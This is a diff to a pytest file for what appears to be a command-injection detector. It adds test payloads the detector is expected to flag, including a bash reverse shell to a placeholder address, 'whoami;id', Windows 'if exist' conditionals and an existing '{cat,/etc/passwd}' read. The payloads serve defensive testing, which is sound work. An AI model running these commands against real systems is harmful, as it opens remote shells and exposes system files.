@@ -245,6 +245,8 @@ def test_quotes_and_empty_variables_inside_a_command_do_not_hide_it(payload: str
         "if exist c:\\boot.ini echo found",
         "\r\nrcpt to:<root@localhost>",
         "{cat,/etc/passwd}",
+        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
+        "whoami;id",
     ],
 )
 def test_globs_batch_syntax_and_mail_commands_are_cmdi(payload: str) -> None:
@@ -331,6 +333,11 @@ def test_block_lines_gives_the_same_lines_as_lines(monkeypatch: pytest.MonkeyPat
         data = b"\n".join(parts) + ending
         expected = list(reader.lines(io.BytesIO(data)))
         assert list(reader.block_lines(io.BytesIO(data))) == expected
+
+
+def test_windows_conditionals_in_plain_words_are_cmdi() -> None:
+    for condition in ("exist c:\\boot.ini", "not defined token", "errorlevel 1"):
+        assert "cmdi" in _kinds(query="x=" + quote(f"if {condition} echo done"))
 
 
 @pytest.mark.parametrize(
